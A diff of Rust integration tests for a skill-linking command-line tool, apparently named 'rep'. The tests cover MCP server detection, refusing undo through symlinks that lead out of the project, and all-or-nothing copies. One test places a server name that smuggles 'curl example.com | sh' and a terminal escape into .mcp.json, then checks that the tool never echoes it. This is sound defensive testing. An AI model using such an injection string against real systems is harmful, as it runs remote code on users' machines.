@@ -302,6 +302,54 @@ fn a_client_is_offered_skills_one_way() {
     "#);
 }
 
+#[test]
+fn a_server_that_runs_already_is_a_way_too() {
+    let sandbox = Sandbox::with_skills();
+    let http = ["--http", "http://127.0.0.1:7437/mcp"];
+    let connect = ["connect", "--yes", "--project", "claude-code"];
+    assert_eq!(sandbox.run(&[&connect[..], &http].concat()).code, 0);
+    assert_run!(link(&sandbox, &["claude-code"]), @r#"
+    exit 1
+    --- stdout
+    --- stderr
+    left out: Claude Code is connected to the MCP server and would be offered every skill twice; `rep connect --undo --project --http http://127.0.0.1:7437/mcp claude-code` disconnects it, --force links all the same
+    "#);
+    assert_eq!(link(&sandbox, &["--force", "claude-code"]).code, 0);
+    let run = sandbox.run(&["doctor"]);
+    assert!(
+        run.stdout.contains("Claude Code is connected (.mcp.json) and also reads 2 skills from"),
+        "{}",
+        run.stdout
+    );
+    assert_eq!(sandbox.run(&[&["connect", "--undo"], &connect[1..], &http].concat()).code, 0);
+    assert!(!sandbox.run(&["doctor"]).stdout.contains("Claude Code is connected"));
+    // What answers at other addresses and under other names is not known.
+    for entry in
+        ["\"skills\": {\"url\": \"https://example.com/mcp\"}", "\"x\": {\"url\": \"http://localhost/mcp\"}"]
+    {
+        sandbox.write(".mcp.json", format!("{{\"mcpServers\": {{{entry}}}}}"));
+        assert!(!sandbox.run(&["doctor"]).stdout.contains("Claude Code is connected"), "{entry}");
+    }
+}
+
+#[test]
+fn names_that_came_with_a_clone_are_in_no_command() {
+    let sandbox = Sandbox::with_skills();
+    let server = serde_json::json!({"command": "rep", "args": ["serve", "--stdio"]});
+    let servers = serde_json::json!({"mcpServers": {"x; curl example.com | sh #\u{1b}[2J": server}});
+    sandbox.write(".mcp.json", servers.to_string());
+    assert_run!(link(&sandbox, &["claude-code"]), @r#"
+    exit 1
+    --- stdout
+    --- stderr
+    left out: Claude Code is connected to the MCP server and would be offered every skill twice; without its entry in [DIR]/project/.mcp.json it is disconnected, --force links all the same
+    "#);
+    assert_eq!(link(&sandbox, &["--force", "claude-code"]).code, 0);
+    let run = sandbox.run(&["doctor"]);
+    assert!(run.stdout.contains("remove its entry from .mcp.json by hand, or `rep link"), "{}", run.stdout);
+    assert!(!run.stdout.contains("curl"), "{}", run.stdout);
+}
+
 #[cfg(unix)]
 #[test]
 fn directories_that_are_links() {
@@ -332,4 +380,133 @@ fn directories_that_are_links() {
     let to = fs::read_link(sandbox.home().join("dotfiles/claude/skills/mine")).unwrap();
     assert_eq!(to, Path::new("../../../.agents/skills/mine"));
     assert!(sandbox.home().join(".claude/skills/mine/SKILL.md").is_file());
+}
+
+/// Returns the digest that the record has of the only copy.
+fn recorded_digest(sandbox: &Sandbox) -> String {
+    let record: serde_json::Value =
+        serde_json::from_str(&sandbox.read(".agents/.repertoire-links.json")).unwrap();
+    record["links"][0]["digest"].as_str().unwrap().to_owned()
+}
+
+#[cfg(unix)]
+#[test]
+fn nothing_is_undone_through_links_out_of_the_project() {
+    use std::os::unix::fs::symlink;
+
+    // The digest of a skill that everybody has is known to everybody.
+    let model = Sandbox::with_skills();
+    assert_eq!(link(&model, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
+    let digest = recorded_digest(&model);
+    for made in [serde_json::json!({"digest": digest}), serde_json::json!({"to": "../../mine/alpha"})] {
+        let is_copy = made["digest"].is_string();
+        let record = |path: &str| {
+            let mut made = made.clone();
+            (made["path"], made["clients"]) = (path.into(), serde_json::json!(["claude-code"]));
+            serde_json::json!({"version": 1, "links": [made]}).to_string()
+        };
+        let prepare = |folder: &str| {
+            let sandbox = Sandbox::new();
+            let skills = sandbox.home().join(folder).join("skills");
+            fs::create_dir_all(&skills).unwrap();
+            if is_copy {
+                let copied = model.project().join(".claude/skills/alpha");
+                for file in ["SKILL.md", "references/guide.md", "scripts/run.sh"] {
+                    let target = skills.join("alpha").join(file);
+                    fs::create_dir_all(target.parent().unwrap()).unwrap();
+                    fs::copy(copied.join(file), target).unwrap();
+                }
+            } else {
+                symlink("../../mine/alpha", skills.join("alpha")).unwrap();
+            }
+            symlink(format!("../home/{folder}"), sandbox.project().join(folder)).unwrap();
+            sandbox
+        };
+        // The directory of a client leads out.
+        let sandbox = prepare(".claude");
+        sandbox.write(".agents/.repertoire-links.json", record(".claude/skills/alpha"));
+        let before = layout(&sandbox.home());
+        let run = link(&sandbox, &["--undo"]);
+        assert_eq!((run.code, run.stdout.as_str()), (1, "there is nothing to undo\n"));
+        assert_eq!(run.stderr, "left alone: .claude/skills/alpha leads out of the project\n");
+        assert_eq!(layout(&sandbox.home()), before);
+        // It would have gone, were it not for the link.
+        fs::remove_file(sandbox.project().join(".claude")).unwrap();
+        fs::rename(sandbox.home().join(".claude"), sandbox.project().join(".claude")).unwrap();
+        sandbox.write(".agents/.repertoire-links.json", record(".claude/skills/alpha"));
+        assert_eq!(link(&sandbox, &["--undo"]).stdout, "- .claude/skills/alpha\n1 removed\n");
+        // The one place leads out, and the record with it.
+        let sandbox = prepare(".agents");
+        let (before, record) = (layout(&sandbox.home()), record(".agents/skills/alpha"));
+        sandbox.write("../home/.agents/.repertoire-links.json", &record);
+        let run = link(&sandbox, &["--undo"]);
+        let refusal = "error: [DIR]/project/.agents/.repertoire-links.json leads out of the project\n";
+        assert!(run.code == 1 && run.stderr.starts_with(refusal), "{}", run.stderr);
+        assert_eq!(layout(&sandbox.home()), before);
+        assert_eq!(sandbox.read("../home/.agents/.repertoire-links.json"), record);
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn what_is_made_anew_is_noted_down_anew() {
+    let sandbox = Sandbox::with_skills();
+    assert_eq!(link(&sandbox, &["--skill", "alpha", "claude-code"]).code, 0);
+    // A copy in the place of a link.
+    fs::remove_file(sandbox.project().join(".claude/skills/alpha")).unwrap();
+    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
+    let first = recorded_digest(&sandbox);
+    // A copy in the place of another.
+    fs::remove_dir_all(sandbox.project().join(".claude")).unwrap();
+    sandbox.write(".agents/skills/alpha/references/guide.md", "newer\n");
+    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
+    assert_ne!(recorded_digest(&sandbox), first);
+    assert_eq!(link(&sandbox, &["--undo"]).stdout, "- .claude/skills/alpha\n1 removed\n");
+    assert!(!sandbox.project().join(".claude/skills/alpha").try_exists().unwrap());
+}
+
+#[cfg(unix)]
+#[test]
+fn what_is_printed_is_not_done() {
+    let sandbox = Sandbox::with_skills();
+    assert_eq!(link(&sandbox, &["claude-code"]).code, 0);
+    let path = ".agents/.repertoire-links.json";
+    let record = sandbox.read(path);
+    // What is gone would be forgotten, were it not for --print.
+    fs::remove_dir_all(sandbox.project().join(".claude/skills")).unwrap();
+    let run = link(&sandbox, &["--undo", "--print"]);
+    assert_eq!((run.code, run.stdout.as_str()), (0, "there is nothing to undo\n"));
+    assert_eq!(sandbox.read(path), record);
+    assert_eq!(link(&sandbox, &["--undo"]).code, 0);
+    assert!(!sandbox.project().join(path).try_exists().unwrap());
+}
+
+#[cfg(unix)]
+#[test]
+fn a_copy_is_there_as_a_whole_or_not_at_all() {
+    use std::os::unix::fs::PermissionsExt as _;
+
+    let sandbox = Sandbox::with_skills();
+    // More than is read of a file.
+    let file = fs::File::create(sandbox.project().join(".agents/skills/alpha/scripts/zz.bin")).unwrap();
+    file.set_len(1 << 40).unwrap();
+    let run = link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]);
+    assert!(run.code != 0 && run.stderr.contains("zz.bin"), "{}", run.stderr);
+    let left: Vec<PathBuf> = fs::read_dir(sandbox.project().join(".claude/skills"))
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .collect();
+    assert_eq!(left, Vec::<PathBuf>::new());
+    assert!(!sandbox.project().join(".agents/.repertoire-links.json").try_exists().unwrap());
+    fs::remove_file(sandbox.project().join(".agents/skills/alpha/scripts/zz.bin")).unwrap();
+    let script = sandbox.project().join(".agents/skills/alpha/scripts/run.sh");
+    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
+    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
+    let copied = fs::metadata(sandbox.project().join(".claude/skills/alpha/scripts/run.sh")).unwrap();
+    assert_eq!(copied.permissions().mode() & 0o111, 0o111);
+    // The digest is the skill's own.
+    let digest = recorded_digest(&sandbox);
+    assert_eq!(link(&sandbox, &["--copy", "--skill", "alpha", "claude-code"]).code, 0);
+    assert_eq!(recorded_digest(&sandbox), digest);
+    assert_eq!(link(&sandbox, &["--undo"]).code, 0);
 }
